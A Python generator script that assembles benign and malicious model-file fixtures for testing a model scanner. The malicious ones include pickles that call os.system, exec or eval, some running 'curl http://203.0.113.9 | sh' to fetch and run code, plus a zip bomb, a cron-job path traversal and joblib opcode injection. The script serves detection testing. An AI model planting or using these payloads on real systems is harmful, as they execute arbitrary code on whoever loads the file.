#!/usr/bin/env python3
"""Writes the model-scan test fixtures to crates/rampart-supply/tests/fixtures/.

Every file is assembled byte by byte (pickle opcodes, zip and tar structures, deflate blocks), so the
output is identical on every machine and Python version, and nothing here ever unpickles or imports a
payload. No torch, numpy or scikit-learn is needed: the benign files reproduce the opcode sequences those
libraries write.

    python3 scripts/gen_model_fixtures.py          # (re)write the fixtures
    python3 scripts/gen_model_fixtures.py --check  # regenerate into a temporary folder and compare bytes
"""

import argparse
import filecmp
import io
import os
import struct
import sys
import tarfile
import tempfile
import zlib

ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
OUT = os.path.join(ROOT, "crates", "rampart-supply", "tests", "fixtures")


# --------------------------------------------------------------------------------------------------
# A small pickle assembler
# --------------------------------------------------------------------------------------------------


class P:
    """Appends pickle opcodes; methods return self so sequences read left to right."""

    def __init__(self, proto=None):
        self.b = bytearray()
        if proto is not None:
            self.b += bytes([0x80, proto])

    def raw(self, data):
        self.b += data
        return self

    def mark(self):
        return self.raw(b"(")

    def stop(self):
        return self.raw(b".")

    def glob(self, module, name):
        return self.raw(b"c" + module.encode() + b"\n" + name.encode() + b"\n")

    def inst(self, module, name):
        return self.raw(b"i" + module.encode() + b"\n" + name.encode() + b"\n")

    def stack_global(self):
        return self.raw(b"\x93")

    def u(self, s):
        """A str: SHORT_BINUNICODE for short strings, BINUNICODE otherwise."""
        data = s.encode()
        if len(data) < 256 and self.b[:1] == b"\x80" and self.b[1] >= 4:
            return self.raw(b"\x8c" + bytes([len(data)]) + data)
        return self.raw(b"X" + struct.pack("<I", len(data)) + data)

    def su(self, s):
        """SHORT_BINUNICODE (protocol 4)."""
        data = s.encode()
        assert len(data) < 256
        return self.raw(b"\x8c" + bytes([len(data)]) + data)

    def text_string(self, s):
        return self.raw(b"S" + repr(s).encode() + b"\n")

    def binbytes(self, data):
        if len(data) < 256:
            return self.raw(b"C" + bytes([len(data)]) + data)
        return self.raw(b"B" + struct.pack("<I", len(data)) + data)

    def int(self, n):
        if 0 <= n < 256:
            return self.raw(b"K" + bytes([n]))
        if 0 <= n < 65536:
            return self.raw(b"M" + struct.pack("<H", n))
        return self.raw(b"J" + struct.pack("<i", n))

    def float(self, x):
        return self.raw(b"G" + struct.pack(">d", x))

    def none(self):
        return self.raw(b"N")

    def true(self):
        return self.raw(b"\x88")

    def false(self):
        return self.raw(b"\x89")

    def tuple(self, n=None):
        return self.raw({None: b"t", 0: b")", 1: b"\x85", 2: b"\x86", 3: b"\x87"}[n])

    def empty_dict(self):
        return self.raw(b"}")

    def empty_list(self):
        return self.raw(b"]")

    def reduce(self):
        return self.raw(b"R")

    def build(self):
        return self.raw(b"b")

    def newobj(self):
        return self.raw(b"\x81")

    def setitem(self):
        return self.raw(b"s")

    def setitems(self):
        return self.raw(b"u")

    def append(self):
        return self.raw(b"a")

    def appends(self):
        return self.raw(b"e")

    def binpersid(self):
        return self.raw(b"Q")

    def put(self, i):
        return self.raw(b"q" + bytes([i]) if i < 256 else b"r" + struct.pack("<I", i))

    def get(self, i):
        return self.raw(b"h" + bytes([i]) if i < 256 else b"j" + struct.pack("<I", i))

    def memoize(self):
        return self.raw(b"\x94")

    def bytes(self):
        return bytes(self.b)


def framed(proto, body):
    """Protocol 4+ framing as CPython writes it: one FRAME around the whole body."""
    return bytes([0x80, proto]) + b"\x95" + struct.pack("<Q", len(body)) + body


def os_system_pickle(cmd="echo pwned", proto=2):
    return P(proto).glob("os", "system").put(0).u(cmd).put(1).tuple(1).put(2).reduce().put(3).stop().bytes()


# --------------------------------------------------------------------------------------------------
# Containers written by hand (fixed timestamps, no compressor whose output could change)
# --------------------------------------------------------------------------------------------------


def deflate_stored(data):
    """Raw deflate made of stored blocks: valid, uncompressed, identical everywhere."""
    out = bytearray()
    chunks = [data[i : i + 65535] for i in range(0, len(data), 65535)] or [b""]
    for k, c in enumerate(chunks):
        out.append(1 if k == len(chunks) - 1 else 0)
        out += struct.pack("<HH", len(c), len(c) ^ 0xFFFF)
        out += c
    return bytes(out)


def deflate_zeros(copies):
    """Fixed-Huffman deflate of 1 + 258 * copies zero bytes: one literal, then length-258 copies at
    distance 1 (13 bits each). About 160:1, written by hand so that the bytes never depend on zlib."""
    bits = []

    def put(value, n):  # least significant bit first
        for i in range(n):
            bits.append((value >> i) & 1)

    def code(value, n):  # Huffman codes go most significant bit first
        for i in reversed(range(n)):
            bits.append((value >> i) & 1)

    put(1, 1)  # BFINAL
    put(1, 2)  # BTYPE = fixed Huffman
    code(0x30, 8)  # literal 0
    for _ in range(copies):
        code(0xC5, 8)  # length code 285 = 258
        code(0, 5)  # distance code 0 = 1
    code(0, 7)  # end of block
    while len(bits) % 8:
        bits.append(0)
    return bytes(sum(bits[i + j] << j for j in range(8)) for i in range(0, len(bits), 8))


def zip_file(entries):
    """entries: (name, payload, method, crc, uncompressed_size, extra). method 0 = stored, 8 = deflate."""
    out = bytearray()
    central = bytearray()
    for name, payload, method, crc, usize, extra in entries:
        nb = name.encode()
        offset = len(out)
        out += struct.pack(
            "<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(payload), usize, len(nb), len(extra)
        )
        out += nb + extra + payload
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            0x031E,
            20,
            0,
            method,
            0,
            0x21,
            crc,
            len(payload),
            usize,
            len(nb),
            0,
            0,
            0,
            0,
            0o100644 << 16,
            offset,
        )
        central += nb
    cd_offset = len(out)
    out += central
    out += struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), cd_offset, 0)
    return bytes(out)


def stored(name, data, align=None, offset_hint=0):
    extra = b""
    if align:
        # torch pads each local header's extra field ("FB") so member data starts on a 64-byte boundary.
        base = offset_hint + 30 + len(name.encode()) + 4
        pad = (-base) % align
        extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
    return (name, data, 0, zlib.crc32(data), len(data), extra)


def torch_zip(members):
    """members: (name, data) in torch's order; data aligned to 64 bytes like torch's writer."""
    entries = []
    offset = 0
    for name, data in members:
        e = stored(name, data, align=64, offset_hint=offset)
        entries.append(e)
        offset += 30 + len(name.encode()) + len(e[5]) + len(data)
    return zip_file(entries)


def tar_file(members):
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as t:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            info.mode = 0o644
            info.uname = info.gname = ""
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def gzip_stored(data):
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x00\xff"
    return header + deflate_stored(data) + struct.pack("<II", zlib.crc32(data), len(data) & 0xFFFFFFFF)


def npy(descr, shape, body):
    header = "{'descr': %r, 'fortran_order': False, 'shape': %s, }" % (descr, shape)
    total = 10 + len(header) + 1
    header += " " * ((-total) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + body


# --------------------------------------------------------------------------------------------------
# Realistic benign structures
# --------------------------------------------------------------------------------------------------


def torch_state_dict_pickle(tensors, legacy_keys=False):
    """The data.pkl torch.save writes for an OrderedDict state_dict (protocol 2): _rebuild_tensor_v2 with
    persistent ids ('storage', torch.FloatStorage, key, 'cpu', numel) and the _metadata attribute."""
    p = P(2)
    p.glob("collections", "OrderedDict").put(0).tuple(0).reduce().put(1).mark()
    memo = 2
    rebuild = None
    storage_tag = None
    storage_type = None
    cpu = None
    for k, (name, key, shape) in enumerate(tensors):
        p.u(name).put(memo)
        memo += 1
        if rebuild is None:
            p.glob("torch._utils", "_rebuild_tensor_v2").put(memo)
            rebuild = memo
            memo += 1
        else:
            p.get(rebuild)
        p.mark()
        p.mark()
        if storage_tag is None:
            p.u("storage").put(memo)
            storage_tag = memo
            memo += 1
            p.glob("torch", "FloatStorage").put(memo)
            storage_type = memo
            memo += 1
        else:
            p.get(storage_tag).get(storage_type)
        p.u(key).put(memo)
        memo += 1
        if cpu is None:
            p.u("cpu").put(memo)
            cpu = memo
            memo += 1
        else:
            p.get(cpu)
        numel = 1
        for d in shape:
            numel *= d
        p.int(numel)
        if legacy_keys:
            p.none()
        p.tuple().put(memo)
        memo += 1
        p.binpersid()
        p.int(0)
        for d in shape:
            p.int(d)
        p.tuple(len(shape)).put(memo)
        memo += 1
        strides = []
        acc = 1
        for d in reversed(shape):
            strides.insert(0, acc)
            acc *= d
        for s in strides:
            p.int(s)
        p.tuple(len(strides)).put(memo)
        memo += 1
        p.false()
        p.get(0).tuple(0).reduce().put(memo)
        memo += 1
        p.tuple().put(memo)
        memo += 1
        p.reduce().put(memo)
        memo += 1
    p.setitems()
    # state_dict._metadata = OrderedDict({'': {'version': 1}})
    p.empty_dict().put(memo)
    memo += 1
    p.u("_metadata").put(memo)
    memo += 1
    p.get(0).tuple(0).reduce().put(memo)
    memo += 1
    p.u("").put(memo)
    memo += 1
    p.empty_dict().put(memo)
    memo += 1
    p.u("version").put(memo)
    memo += 1
    p.int(1).setitem().setitem().setitem().build().stop()
    return p.bytes()


def floats(n, start=0.0):
    return b"".join(struct.pack("<f", start + i * 0.25) for i in range(n))


def sklearn_pickle():
    """A LogisticRegression pickled with protocol 4 (what pickle.dumps(model) writes), arrays included."""
    body = P()
    body.b = bytearray()
    q = body
    q.su("sklearn.linear_model._logistic").memoize()
    q.su("LogisticRegression").memoize().stack_global().memoize()
    q.tuple(0).newobj().memoize().empty_dict().memoize().mark()
    for key, value in [("penalty", "l2"), ("solver", "lbfgs")]:
        q.su(key).memoize()
        q.su(value).memoize()
    q.su("C").memoize().float(1.0)
    q.su("max_iter").memoize().int(100)
    for key, data, shape in [
        ("coef_", struct.pack("<4d", 0.5, -1.25, 2.0, 0.125), (1, 4)),
        ("intercept_", struct.pack("<d", -0.75), (1,)),
    ]:
        q.su(key).memoize()
        ndarray_v4(q, data, shape, "f8")
    q.su("_sklearn_version").memoize().su("1.3.0").memoize()
    q.setitems().build().stop()
    return framed(4, q.bytes())


def ndarray_v4(q, data, shape, dtype):
    q.su("numpy.core.multiarray").memoize().su("_reconstruct").memoize()
    q.stack_global().memoize()
    q.su("numpy").memoize().su("ndarray").memoize().stack_global().memoize()
    q.int(0).tuple(1).memoize().raw(b"C\x01b").memoize().tuple(3).memoize().reduce().memoize()
    q.mark().int(1)
    for d in shape:
        q.int(d)
    q.tuple(len(shape)).memoize()
    q.su("numpy").memoize().su("dtype").memoize().stack_global().memoize()
    q.su(dtype).memoize().false().true().tuple(3).memoize()
    q.reduce().memoize()
    q.mark().int(3).su("<").memoize().none().none().none().raw(b"J\xff\xff\xff\xff")
    q.raw(b"J\xff\xff\xff\xff").int(0).tuple().memoize().build()
    q.false().binbytes(data).memoize().tuple().memoize().build()


def joblib_file(malicious_array_bytes=None, align=True):
    """joblib.dump({'coef': array}): a NumpyArrayWrapper record, then the array's raw bytes right after
    its BUILD (joblib >= 1.2 first writes alignment padding), then the rest of the pickle. The malicious
    variant leaves out the padding (as joblib < 1.2 does) and fills the "array" with opcodes."""
    q = P()
    q.b = bytearray()
    q.empty_dict().memoize().su("coef").memoize()
    q.su("joblib.numpy_pickle").memoize().su("NumpyArrayWrapper").memoize()
    q.stack_global().memoize().tuple(0).newobj().memoize().empty_dict().memoize().mark()
    q.su("subclass").memoize()
    q.su("numpy").memoize().su("ndarray").memoize().stack_global().memoize()
    if malicious_array_bytes is None:
        data = struct.pack("<4d", 1.0, 2.0, 3.0, 4.0)
        shape, dtype = 4, "f8"
    else:
        data = malicious_array_bytes
        shape, dtype = len(data), "u1"
    q.su("shape").memoize().int(shape).tuple(1).memoize()
    q.su("order").memoize().su("C").memoize()
    q.su("dtype").memoize()
    q.su("numpy").memoize().su("dtype").memoize().stack_global().memoize()
    q.su(dtype).memoize().false().true().tuple(3).memoize()
    q.reduce().memoize()
    endian = "<" if dtype != "u1" else "|"
    q.mark().int(3).su(endian).memoize().none().none().none()
    q.raw(b"J\xff\xff\xff\xff").raw(b"J\xff\xff\xff\xff").int(0).tuple().memoize().build()
    q.su("allow_mmap").memoize().true()
    if align:
        q.su("numpy_array_alignment_bytes").memoize().int(16)
    q.setitems().build()
    head = framed(4, q.bytes())
    if not align:
        return head + data + b"s."
    pos_after_pad_byte = len(head) + 1
    pad = 16 - (pos_after_pad_byte % 16)
    return head + bytes([pad]) + b"\xff" * pad + data + b"s."


def legacy_torch(model_pickle, storages):
    magic = P(2).raw(b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little")).stop().bytes()
    version = P(2).int(1001).stop().bytes()
    sys_info = (
        P(2)
        .empty_dict()
        .put(0)
        .mark()
        .u("protocol_version")
        .put(1)
        .int(1001)
        .u("little_endian")
        .put(2)
        .true()
        .u("type_sizes")
        .put(3)
        .empty_dict()
        .put(4)
        .mark()
        .u("short")
        .put(5)
        .int(2)
        .u("int")
        .put(6)
        .int(4)
        .u("long")
        .put(7)
        .int(4)
        .setitems()
        .setitems()
        .stop()
        .bytes()
    )
    keys = P(2).empty_list().put(0)
    keys.mark()
    for i, (key, _) in enumerate(storages):
        keys.u(key).put(i + 1)
    keys.appends().stop()
    raw = b"".join(struct.pack("<q", len(data) // 4) + data for _, data in storages)
    return magic + version + sys_info + model_pickle + keys.bytes() + raw


# --------------------------------------------------------------------------------------------------
# The fixtures
# --------------------------------------------------------------------------------------------------


def fixtures():
    f = {}
    m = "malicious/"
    b = "benign/"

    f[m + "os_system_reduce.pkl"] = os_system_pickle()
    f[m + "posix_system_proto0.pkl"] = b"cposix\nsystem\np0\n(S'echo pwned'\np1\ntp2\nRp3\n."
    code = "import os;os.system('curl -s http://203.0.113.9/x | sh');" + "#" * 63
    assert len(code) == 120
    f[m + "builtins_exec.pkl"] = P(3).glob("builtins", "exec").put(0).u(code).put(1).tuple(1).reduce().stop().bytes()
    q = P()
    q.b = bytearray()
    q.su("builtins").memoize().su("eval").memoize().raw(b"00")
    q.get(0).get(1).stack_global().memoize()
    q.su("__import__('os').system('id')").memoize().tuple(1).memoize().reduce().memoize().stop()
    f[m + "stack_global_memo.pkl"] = framed(4, q.bytes())
    f[m + "inst_form.pkl"] = b"(S'echo pwned'\nios\nsystem\np0\n."
    f[m + "obj_form.pkl"] = b"(csubprocess\ncall\nS'id'\no."
    f[m + "nested_loads.pkl"] = (
        P(2).glob("pickle", "loads").put(0).binbytes(os_system_pickle("id")).put(1).tuple(1).reduce().stop().bytes()
    )
    evil_state = (
        P(2).glob("collections", "OrderedDict").put(0).tuple(0).reduce().put(1)
        .u("weight").glob("posix", "system").u("curl http://203.0.113.9 | sh").tuple(1).reduce()
        .setitem().stop().bytes()
    )
    f[m + "torch_zip_malicious.pt"] = torch_zip(
        [
            ("archive/data.pkl", evil_state),
            ("archive/data/0", floats(4)),
            ("archive/version", b"3\n"),
            ("archive/byteorder", b"little"),
        ]
    )
    evil_model = P(2).glob("posix", "system").u("echo pwned").tuple(1).reduce().stop().bytes()
    f[m + "legacy_torch_malicious.pt"] = legacy_torch(evil_model, [("0", floats(4))])
    storages_member = P(2).int(1).stop().bytes() + P(2).u("0").u("cpu").glob("torch", "FloatStorage").tuple(3).stop().bytes() + struct.pack("<q", 4) + floats(4)
    f[m + "legacy_torch.tar"] = tar_file(
        [
            ("sys_info", P(2).empty_dict().u("little_endian").true().setitem().stop().bytes()),
            ("pickle", evil_model),
            ("storages", storages_member),
            ("tensors", P(2).int(0).stop().bytes()),
        ]
    )
    evil_items = P().glob("os", "system").u("id").tuple(1).reduce().bytes()
    obj_pickle = (
        P(3).glob("numpy.core.multiarray", "_reconstruct").put(0).glob("numpy", "ndarray").put(1)
        .int(0).tuple(1).put(2).binbytes(b"b").put(3).tuple(3).put(4).reduce().put(5)
        .mark().int(1).int(1).tuple(1).put(6).glob("numpy", "dtype").put(7).u("O8").put(8).false().true().tuple(3).put(9)
        .reduce().put(10).mark().int(3).u("|").put(11).none().none().none().int(-1).int(-1).int(63).tuple().put(12).build()
        .false().empty_list().put(13).raw(evil_items).append().tuple().put(14).build().stop().bytes()
    )
    evil_npy = npy("|O", "(1,)", obj_pickle)
    f[m + "object_array.npy"] = evil_npy
    f[m + "object_array.npz"] = zip_file([stored("arr_0.npy", evil_npy)])
    copies = 4500
    zeros = b"\0" * (1 + 258 * copies)
    f[m + "zip_bomb.zip"] = zip_file([("zeros.bin", deflate_zeros(copies), 8, zlib.crc32(zeros), len(zeros), b"")])
    f[m + "path_traversal.zip"] = zip_file(
        [
            stored("../../etc/cron.d/evil", b"* * * * * root sh -c 'id'\n"),
            stored("/tmp/absolute.txt", b"x"),
            stored("C:\\Users\\Public\\evil.txt", b"x"),
        ]
    )
    f[m + "truncated.pkl"] = torch_state_dict_pickle([("weight", "0", (2, 2))])[:70]
    f[m + "truncated_after_reduce.pkl"] = os_system_pickle()[:-2]
    f[m + "extension_code.pkl"] = P(2).raw(b"\x82\x01").tuple(0).reduce().stop().bytes()
    f[m + "unknown_class.pkl"] = (
        P(2).glob("__main__", "Payload").put(0).tuple(0).newobj().put(1).empty_dict().u("x").int(1).setitem().build().stop().bytes()
    )
    q = P()
    q.b = bytearray()
    q.su("torch._utils").memoize().su("_rebuild_tensor_v2.__globals__").memoize()
    q.stack_global().memoize().stop()
    f[m + "dunder_traversal.pkl"] = framed(4, q.bytes())
    f[m + "global_mutation.pkl"] = (
        P(2).glob("collections", "OrderedDict").empty_dict().u("__reduce__").u("x").setitem().build().stop().bytes()
    )
    injected = b"cos\nsystem\n(S'id'\ntR0"
    f[m + "joblib_plain_divergence.joblib"] = joblib_file(injected, align=False)
    f[m + "gzip_pickle.pkl.gz"] = gzip_stored(os_system_pickle())
    f[m + "duplicate_names.zip"] = zip_file([stored("model.pkl", P(2).none().stop().bytes()), stored("model.pkl", os_system_pickle())])

    state = torch_state_dict_pickle([("weight", "0", (2, 2)), ("bias", "1", (2,))])
    f[b + "torch_state_dict.pt"] = torch_zip(
        [
            ("archive/data.pkl", state),
            ("archive/byteorder", b"little"),
            ("archive/data/0", floats(4)),
            ("archive/data/1", floats(2, 1.0)),
            ("archive/version", b"3\n"),
            ("archive/.data/serialization_id", b"1234567890123456789012345678901234567890"),
        ]
    )
    legacy_state = torch_state_dict_pickle([("weight", "0", (2, 2))], legacy_keys=True)
    f[b + "legacy_torch.pt"] = legacy_torch(legacy_state, [("0", floats(4))])
    f[b + "sklearn_model.pkl"] = sklearn_pickle()
    f[b + "floats.npy"] = npy("<f8", "(4,)", struct.pack("<4d", 1.0, 2.0, 3.0, 4.0))
    f[b + "joblib_model.joblib"] = joblib_file()
    f[b + "plain_dict_proto0.pkl"] = b"(dp0\nS'lr'\np1\nF0.001\nsS'epochs'\np2\nI10\ns."
    f[b + "README.md"] = b"# Model card\n\nA small test model.\n"
    header = b'{"w":{"dtype":"F32","shape":[2],"data_offsets":[0,8]}}'
    f[b + "model.safetensors"] = struct.pack("<Q", len(header)) + header + floats(2)
    f[b + "model.gguf"] = b"GGUF" + struct.pack("<IQQ", 3, 0, 0)
    # A real HDF5 weights file (written by h5py for the format fixtures; see gen_format_fixtures.py).
    with open(os.path.join(ROOT, "crates/rampart-supply/tests/fixtures/formats/hdf5/weights_only.h5"), "rb") as h5:
        weights_h5 = h5.read()
    f[b + "weights.h5"] = weights_h5
    config = b'{"class_name": "Sequential", "config": {"name": "seq", "layers": []}}'
    f[b + "model.keras"] = zip_file(
        [
            stored("metadata.json", b'{"keras_version": "3.3.3"}'),
            stored("config.json", config),
            stored("model.weights.h5", weights_h5),
        ]
    )
    f[b + "models.tar.gz"] = gzip_stored(
        tar_file([("m/sklearn_model.pkl", sklearn_pickle()), ("m/floats.npy", f[b + "floats.npy"])])
    )
    return f


def write_all(out):
    for rel, data in sorted(fixtures().items()):
        path = os.path.join(out, rel)
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "wb") as fh:
            fh.write(data)


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--check", action="store_true", help="compare a fresh generation with the committed files")
    args = ap.parse_args()
    if not args.check:
        write_all(OUT)
        print(f"wrote {len(fixtures())} fixtures to {os.path.relpath(OUT, ROOT)}")
        return 0
    with tempfile.TemporaryDirectory() as tmp:
        write_all(tmp)
        bad = []
        for rel in sorted(fixtures()):
            committed = os.path.join(OUT, rel)
            if not os.path.exists(committed) or not filecmp.cmp(committed, os.path.join(tmp, rel), shallow=False):
                bad.append(rel)
        if bad:
            print("fixtures differ from the generator (run scripts/gen_model_fixtures.py):", *bad, sep="\n  ")
            return 1
    print(f"{len(fixtures())} fixtures match the generator")
    return 0


if __name__ == "__main__":
    sys.exit(main())
